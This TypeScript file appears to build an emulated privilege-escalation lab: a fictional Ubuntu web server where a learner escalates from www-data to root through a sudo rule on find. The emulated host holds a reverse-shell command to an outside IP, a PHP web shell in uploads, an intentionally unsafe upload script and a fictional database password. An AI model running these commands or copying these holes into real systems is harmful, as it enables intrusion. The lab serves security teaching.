// A foothold shell as www-data on an emulated Ubuntu web server (net-linux-shell.ts). The
// flaw is a sudoers rule a developer added for an uploads clean-up job:
// `www-data ALL=(root) NOPASSWD: /usr/bin/find`. find runs any program with -exec, so
// `sudo find . -exec /bin/sh \; -quit` starts a root shell, the GTFOBins way; reading
// /root/flag.txt as root solves the lab. Everything else on the host is an ordinary Ubuntu
// 22.04 baseline: the SUID list is the standard one, the kernel and sudo are patched.
// Nothing runs for real: the shell, the files and the IDs are all emulated. The terminal's
// last few lines, the shells the learner opened and any files they changed are kept in the
// lab's state (small, and never a secret: the flag is read out of the log before saving).
import { esc, LabInputError, page, redirect, type LabResponse, type LabTarget, type LabTools } from '../host/lab-kit';
import {
  LIMITS,
  prompt,
  runLine,
  vdir,
  vfile,
  vlink,
  vprog,
  type Frame,
  type LinuxSystem,
  type Overlay,
  type Session,
  type VFile,
} from './net-linux-shell';

const HOST = 'kaveri-web01';
const NOW = '2026-03-14 10:41';

interface LogEntry {
  /** Prompt, command, output. */
  p: string;
  c: string;
  o: string;
}

interface PrivescState {
  v: 1;
  frames: Frame[];
  overlay: Overlay;
  log: LogEntry[];
}

const LOG_ENTRIES = 5;
const LOG_OUTPUT = 240;
const LOG_COMMAND = 120;
/** The platform keeps 3000 bytes of base64: about 2250 of JSON. Older log lines give way. */
const STATE_BUDGET = 2000;

const FOOTHOLD: Frame = { uid: 33, euid: 33, gid: 33, cwd: '/var/www/html', shell: 'bash' };

const PASSWD = `root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
bin:x:2:2:bin:/bin:/usr/sbin/nologin
sys:x:3:3:sys:/dev:/usr/sbin/nologin
sync:x:4:65534:sync:/bin:/bin/sync
man:x:6:12:man:/var/cache/man:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin
systemd-network:x:100:102:systemd Network Management,,,:/run/systemd:/usr/sbin/nologin
messagebus:x:103:104::/nonexistent:/usr/sbin/nologin
syslog:x:104:110::/home/syslog:/usr/sbin/nologin
sshd:x:106:65534::/run/sshd:/usr/sbin/nologin
priya:x:1000:1000:Priya Raman,,,:/home/priya:/bin/bash
`;

const GROUP = `root:x:0:
adm:x:4:syslog,priya
sudo:x:27:priya
www-data:x:33:
shadow:x:42:
messagebus:x:104:
syslog:x:110:
priya:x:1000:
nogroup:x:65534:
`;

// Fictional hashes: the right shape ($y$ is yescrypt), not any real password.
const SHADOW = `root:$y$j9T$Qm4oZ1v8kXo2hT9aL3nWd/$c8Rk0fPz1sJqW5eYhD2uVnB7tM4xG9iL6aQ3oE1pK0C:20101:0:99999:7:::
daemon:*:19977:0:99999:7:::
www-data:*:19977:0:99999:7:::
nobody:*:19977:0:99999:7:::
priya:$y$j9T$7hGv2KsPq0Lx9RmZa1cYt.$Wn3bQe8Fj5Uo2Hk7Ds1Gx4Pz9Lr6Mv0Tc2Yq8Ai5Be7:20101:0:99999:7:::
`;

const CLEANUP = `#!/bin/sh
# Removes uploads older than 30 days; www-data's crontab runs it nightly.
# find runs through sudo because uploads moved in the 2024 migration are owned by root
# (ticket OPS-2231, Priya).
sudo /usr/bin/find /var/www/html/uploads -type f -mtime +30 -delete
`;

const SUDOERS_D = `# Added for the uploads clean-up job (OPS-2231). Priya, 2024-07-19
www-data ALL=(root) NOPASSWD: /usr/bin/find
`;

const PS = `USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND
root           1  0.0  0.5 167808 11456 ?        Ss   Mar11   0:12 /sbin/init
root         612  0.0  0.1   6896  2944 ?        Ss   Mar11   0:01 /usr/sbin/cron -f -P
root         640  0.0  0.3  15436  7632 ?        Ss   Mar11   0:00 sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups
root         702  0.0  1.0 193796 20560 ?        Ss   Mar11   0:09 /usr/sbin/apache2 -k start
www-data    1533  0.0  0.6 198392 12972 ?        S    09:58   0:00 /usr/sbin/apache2 -k start
www-data    2790  0.0  0.0   2892   964 ?        S    10:37   0:00 sh -c bash -c 'bash -i >& /dev/tcp/10.13.37.5/4444 0>&1'
www-data    2792  0.0  0.2   8784  5432 ?        S    10:37   0:00 bash -i
www-data    2817  0.0  0.1  10072  3328 ?        R    10:41   0:00 ps aux
`;

const MOUNTS = `/dev/sda2 on / type ext4 (rw,relatime)
proc on /proc type proc (rw,nosuid,nodev,noexec,relatime)
sysfs on /sys type sysfs (rw,nosuid,nodev,noexec,relatime)
tmpfs on /run type tmpfs (rw,nosuid,nodev,noexec,relatime,size=400652k,mode=755)
/dev/sda1 on /boot/efi type vfat (rw,relatime,fmask=0077,dmask=0077)
`;

/** The host, with the flag file wired to the lab: reading it as root solves. */
export function buildSystem(lab: Pick<LabTools, 'solve'>): LinuxSystem {
  const p = vprog;
  const suid = (program: string, size: number, group = 'root') => vprog(program, size, { mode: 0o4755, group });
  const flagText = (flag: string) => `You are root on ${HOST}. Write it up, then clean up.\nFlag: ${flag}\n`;
  const flagFile: VFile = vfile('', {
    mode: 0o600,
    size: flagText(`EHC{${'x'.repeat(32)}}`).length,
    mtime: '2026-03-11 08:02',
    read: () => flagText(lab.solve()),
  });
  const tree = vdir({
    bin: vlink('usr/bin'),
    sbin: vlink('usr/sbin'),
    lib: vlink('usr/lib'),
    boot: vdir({ 'vmlinuz-5.15.0-119-generic': vfile('', { mode: 0o600, size: 11_700_512 }) }),
    dev: vdir({ null: vfile('', { mode: 0o666 }) }),
    etc: vdir({
      hostname: vfile(`${HOST}\n`),
      hosts: vfile(`127.0.0.1 localhost\n127.0.1.1 ${HOST}\n10.13.37.20 db01.kaveri.lan\n`),
      issue: vfile('Ubuntu 22.04.5 LTS \\n \\l\n\n'),
      'os-release': vfile(
        'PRETTY_NAME="Ubuntu 22.04.5 LTS"\nNAME="Ubuntu"\nVERSION_ID="22.04"\nVERSION="22.04.5 LTS (Jammy Jellyfish)"\nID=ubuntu\nID_LIKE=debian\n',
      ),
      passwd: vfile(PASSWD),
      group: vfile(GROUP),
      shadow: vfile(SHADOW, { mode: 0o640, group: 'shadow' }),
      sudoers: vfile(
        'Defaults\tenv_reset\nDefaults\tmail_badpass\nDefaults\tsecure_path="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin:/snap/bin"\nDefaults\tuse_pty\n\nroot\tALL=(ALL:ALL) ALL\n%admin ALL=(ALL) ALL\n%sudo\tALL=(ALL:ALL) ALL\n\n@includedir /etc/sudoers.d\n',
        { mode: 0o440 },
      ),
      'sudoers.d': vdir(
        {
          README: vfile('# Files in this directory are read by sudo; see sudoers(5).\n', { mode: 0o440 }),
          '90-www-cleanup': vfile(SUDOERS_D, { mode: 0o440, mtime: '2024-07-19 16:20' }),
        },
        { mode: 0o750 },
      ),
      crontab: vfile(
        'SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n25 6\t* * *\troot\ttest -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )\n',
      ),
      apache2: vdir({
        'sites-enabled': vdir({
          '000-default.conf': vfile(
            '<VirtualHost *:80>\n\tServerName learn.kaveri.example\n\tDocumentRoot /var/www/html\n</VirtualHost>\n',
          ),
        }),
      }),
    }),
    home: vdir({
      priya: vdir(
        {
          '.bashrc': vfile('# ~/.bashrc\n', { owner: 'priya', group: 'priya' }),
          '.bash_history': vfile('sudo visudo -f /etc/sudoers.d/90-www-cleanup\n', {
            owner: 'priya',
            group: 'priya',
            mode: 0o600,
          }),
        },
        { owner: 'priya', group: 'priya', mode: 0o750 },
      ),
    }),
    opt: vdir({}),
    root: vdir(
      {
        '.bashrc': vfile('# ~/.bashrc: executed by bash(1) for non-login shells.\n', { mode: 0o644 }),
        '.profile': vfile('if [ -f ~/.bashrc ]; then . ~/.bashrc; fi\n', { mode: 0o644 }),
        'flag.txt': flagFile,
      },
      { mode: 0o700 },
    ),
    tmp: vdir({}, { mode: 0o1777 }),
    usr: vdir({
      bin: vdir({
        bash: p('bash', 1_396_520),
        dash: p('dash', 125_688),
        sh: vlink('dash'),
        cat: p('cat', 35_280),
        chmod: p('chmod', 63_920),
        cp: p('cp', 141_824),
        date: p('date', 104_960),
        echo: p('echo', 35_120),
        env: p('env', 48_072),
        find: p('find', 282_088),
        grep: p('grep', 186_672),
        head: p('head', 43_432),
        hostname: p('hostname', 22_760),
        id: p('id', 39_424),
        ls: p('ls', 138_208),
        ping: p('_offline', 76_672, { caps: 'cap_net_raw=ep' }),
        ps: p('ps', 137_688),
        rm: p('rm', 72_056),
        sort: p('sort', 117_208),
        tail: p('tail', 63_952),
        touch: p('touch', 100_728),
        true: p('true', 35_128),
        false: p('false', 35_128),
        uname: p('uname', 35_336),
        wc: p('wc', 43_432),
        which: p('which', 1_073),
        whoami: p('whoami', 35_328),
        // The SUID programs a clean Ubuntu 22.04 server ships: a baseline, not findings.
        chfn: suid('_suidStandard', 72_712),
        chsh: suid('_suidStandard', 44_808),
        fusermount3: suid('_suidStandard', 35_200),
        gpasswd: suid('_suidStandard', 72_072),
        mount: suid('mount', 47_480),
        newgrp: suid('_suidStandard', 40_496),
        passwd: suid('passwd', 59_976),
        pkexec: suid('pkexec', 30_872),
        su: suid('su', 55_672),
        sudo: suid('sudo', 232_416),
        umount: suid('_suidStandard', 35_192),
      }),
      sbin: vdir({
        apache2: p('_daemon', 712_008),
        cron: p('_daemon', 55_600),
        getcap: p('getcap', 14_656),
        sshd: p('_daemon', 921_376),
      }),
      lib: vdir({
        'dbus-1.0': vdir({
          'dbus-daemon-launch-helper': vprog('_daemon', 35_112, { mode: 0o4754, group: 'messagebus' }),
        }),
        openssh: vdir({ 'ssh-keysign': suid('_daemon', 338_536) }),
        snapd: vdir({ 'snap-confine': suid('_daemon', 146_440) }),
      }),
      libexec: vdir({ 'polkit-agent-helper-1': suid('_daemon', 18_736) }),
      local: vdir({ bin: vdir({}), sbin: vdir({}) }),
    }),
    var: vdir({
      backups: vdir({ 'passwd.bak': vfile(PASSWD, { mode: 0o600 }) }),
      log: vdir(
        {
          apache2: vdir(
            { 'access.log': vfile('', { mode: 0o640, group: 'adm', size: 48_213 }) },
            { mode: 0o750, group: 'adm' },
          ),
        },
        { mode: 0o775, group: 'syslog' },
      ),
      tmp: vdir({}, { mode: 0o1777 }),
      www: vdir({
        html: vdir(
          {
            'index.php': vfile(
              "<?php\n// Kaveri Learning: course catalogue\nrequire 'config.php';\ninclude 'catalogue.php';\n",
              { owner: 'www-data', group: 'www-data', mtime: '2025-06-02 11:40' },
            ),
            'upload.php': vfile(
              "<?php\n// Assignment upload: keeps the name the student gave (the bug that let you in)\nmove_uploaded_file($_FILES['work']['tmp_name'], 'uploads/' . $_FILES['work']['name']);\n",
              { owner: 'www-data', group: 'www-data', mtime: '2025-06-02 11:40' },
            ),
            'config.php': vfile(
              "<?php\n$db_host = 'db01.kaveri.lan';\n$db_user = 'kaveri_web';\n$db_pass = 'Cauvery#2025';\n",
              { owner: 'www-data', group: 'www-data', mode: 0o640, mtime: '2025-06-02 11:40' },
            ),
            'cleanup.sh': vfile(CLEANUP, {
              owner: 'www-data',
              group: 'www-data',
              mode: 0o755,
              mtime: '2024-07-19 16:31',
            }),
            uploads: vdir(
              {
                'assignment-anil.pdf': vfile('', {
                  owner: 'root',
                  group: 'root',
                  size: 88_412,
                  mtime: '2024-05-30 10:02',
                }),
                'assignment-sneha.docx': vfile('', {
                  owner: 'www-data',
                  group: 'www-data',
                  size: 23_551,
                  mtime: '2026-03-02 18:45',
                }),
                'cv.php': vfile("<?php system($_GET['c']); ?>\n", {
                  owner: 'www-data',
                  group: 'www-data',
                  mtime: '2026-03-14 10:36',
                }),
              },
              { owner: 'www-data', group: 'www-data' },
            ),
          },
          { owner: 'www-data', group: 'www-data' },
        ),
      }),
    }),
  });
  return {
    hostname: HOST,
    kernel: {
      release: '5.15.0-119-generic',
      version: '#129-Ubuntu SMP Fri Aug 2 19:25:20 UTC 2024',
      machine: 'x86_64',
    },
    accounts: [
      { name: 'root', uid: 0, gid: 0, home: '/root', shell: '/bin/bash' },
      { name: 'daemon', uid: 1, gid: 1, home: '/usr/sbin', shell: '/usr/sbin/nologin' },
      { name: 'www-data', uid: 33, gid: 33, home: '/var/www', shell: '/usr/sbin/nologin' },
      { name: 'messagebus', uid: 103, gid: 104, home: '/nonexistent', shell: '/usr/sbin/nologin' },
      { name: 'syslog', uid: 104, gid: 110, home: '/home/syslog', shell: '/usr/sbin/nologin' },
      { name: 'priya', uid: 1000, gid: 1000, home: '/home/priya', shell: '/bin/bash' },
      { name: 'nobody', uid: 65534, gid: 65534, home: '/nonexistent', shell: '/usr/sbin/nologin' },
    ],
    groups: [
      { name: 'root', gid: 0, members: [] },
      { name: 'adm', gid: 4, members: ['syslog', 'priya'] },
      { name: 'sudo', gid: 27, members: ['priya'] },
      { name: 'www-data', gid: 33, members: [] },
      { name: 'shadow', gid: 42, members: [] },
      { name: 'messagebus', gid: 104, members: [] },
      { name: 'syslog', gid: 110, members: [] },
      { name: 'priya', gid: 1000, members: [] },
      { name: 'nogroup', gid: 65534, members: [] },
    ],
    sudo: {
      version: '1.9.9',
      defaults: [
        'env_reset',
        'mail_badpass',
        'secure_path=/usr/local/sbin\\:/usr/local/bin\\:/usr/sbin\\:/usr/bin\\:/sbin\\:/bin\\:/snap/bin',
        'use_pty',
      ],
      securePath: '/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin:/snap/bin',
      // The flaw: a whole program that can run other programs, as root, without a password.
      rules: [{ user: 'www-data', runAs: 'root', nopasswd: true, command: '/usr/bin/find' }],
    },
    tree,
    processes: PS,
    mounts: MOUNTS,
    now: NOW,
  };
}

function freshState(): PrivescState {
  return { v: 1, frames: [{ ...FOOTHOLD }], overlay: { modes: {}, files: {}, removed: [] }, log: [] };
}

/** The saved state, if it has the shape this lab writes (it is signed, but old shapes may linger). */
function readState(lab: LabTools): PrivescState {
  const value = lab.state<Partial<PrivescState>>();
  if (
    !value ||
    value.v !== 1 ||
    !Array.isArray(value.frames) ||
    value.frames.length === 0 ||
    !Array.isArray(value.log) ||
    typeof value.overlay !== 'object' ||
    value.overlay === null
  ) {
    return freshState();
  }
  return {
    v: 1,
    frames: value.frames,
    overlay: {
      modes: value.overlay.modes ?? {},
      files: value.overlay.files ?? {},
      removed: value.overlay.removed ?? [],
    },
    log: value.log,
  };
}

function shorten(text: string, max: number): string {
  return text.length > max ? `${text.slice(0, max)}… (shortened)` : text;
}

/** What the log keeps of a command: short, and never a flag (the state is readable). */
function logEntry(promptText: string, command: string, output: string): LogEntry {
  const safe = output.replace(/EHC\{[^}\n]*\}/g, 'EHC{…}');
  const o =
    safe.length > LOG_OUTPUT ? `${safe.slice(0, LOG_OUTPUT)}\n… (shortened; run it again to see it all)\n` : safe;
  return { p: promptText, c: shorten(command, LOG_COMMAND), o };
}

function terminal(system: LinuxSystem, state: PrivescState, current?: LogEntry): string {
  const entries = current ? [...state.log.slice(0, -1), current] : state.log;
  const frame = state.frames[state.frames.length - 1]!;
  const next = prompt(system, frame, state.frames.length === 1);
  const body = entries.map((e) => `${e.p}${e.c}\n${e.o}`).join('');
  return `${body}${next}`;
}

function shellPage(system: LinuxSystem, state: PrivescState, current?: LogEntry, note = ''): LabResponse {
  const frame = state.frames[state.frames.length - 1]!;
  const depth = state.frames.length - 1;
  return page(
    `Shell on ${HOST}`,
    `<h1>Foothold on ${HOST}</h1>
<p>Kaveri Learning (a fictional company) asked you to test its course web server, in writing. The assignment upload form kept your PHP file, and it gave you a reverse shell as <code>www-data</code>. Become root on this host and read <code>/root/flag.txt</code>.</p>
<section class="lab-card" aria-labelledby="term-title">
<h2 id="term-title">Terminal</h2>
<pre tabindex="0" aria-live="polite">${esc(terminal(system, state, current))}</pre>
${note}
<form method="post" action="run" class="lab-form">
  <label>Command <input name="cmd" maxlength="${LIMITS.line}" autocapitalize="off" autocomplete="off" autocorrect="off" spellcheck="false" required></label>
  <button type="submit">Run</button>
</form>
<p class="lab-muted">${depth ? `You are in a shell you started (${depth} deep, effective user ${esc(system.accounts.find((a) => a.uid === frame.euid)?.name ?? frame.euid)}); <code>exit</code> leaves it. ` : ''}This shell is emulated: nothing runs for real. <code>help</code> lists what it has; <code>clear</code> empties the screen.</p>
</section>
<form method="post" action="reset" class="lab-form">
  <button type="submit">Reset the host</button>
</form>`,
  );
}

const target: LabTarget = {
  id: 'net-linux-privesc',
  routes: {
    'GET /': (_request, lab) => shellPage(buildSystem(lab), readState(lab)),
    'GET /run': (_request, lab) => redirect(lab, '/'),
    'POST /run': (request, lab) => {
      const command = (request.form().get('cmd') ?? '').replace(/\r\n?/g, '\n');
      if (command.length > LIMITS.line)
        throw new LabInputError(`Commands longer than ${LIMITS.line} characters are not accepted.`);
      const system = buildSystem(lab);
      const state = readState(lab);
      if (!command.trim()) return shellPage(system, state);
      const frame = state.frames[state.frames.length - 1]!;
      const shown = prompt(system, frame, state.frames.length === 1);
      const session: Session = { frames: state.frames, overlay: state.overlay };
      const result = runLine(
        system,
        session,
        command,
        state.log.map((e) => e.c),
      );
      const full: LogEntry = { p: shown, c: command, o: result.output };
      const next: PrivescState = {
        v: 1,
        frames: result.session.frames,
        overlay: result.session.overlay,
        log: result.cleared ? [] : [...state.log, logEntry(shown, command, result.output)].slice(-LOG_ENTRIES),
      };
      const size = () => Buffer.byteLength(JSON.stringify(next));
      while (next.log.length > 1 && size() > STATE_BUDGET) next.log.shift();
      const last = next.log[0];
      if (last && size() > STATE_BUDGET) next.log = [{ p: last.p, c: shorten(last.c, 40), o: '' }];
      lab.setState(next);
      const note = result.spawned
        ? '<p class="lab-muted" role="status">A new shell started: it reads your next commands.</p>'
        : result.exited
          ? '<p class="lab-muted" role="status">You left that shell and are back in the one before.</p>'
          : '';
      return shellPage(system, next, result.cleared ? undefined : full, note);
    },
    'POST /reset': (_request, lab) => {
      lab.setState(freshState());
      return redirect(lab, '/');
    },
  },
};

export default target;
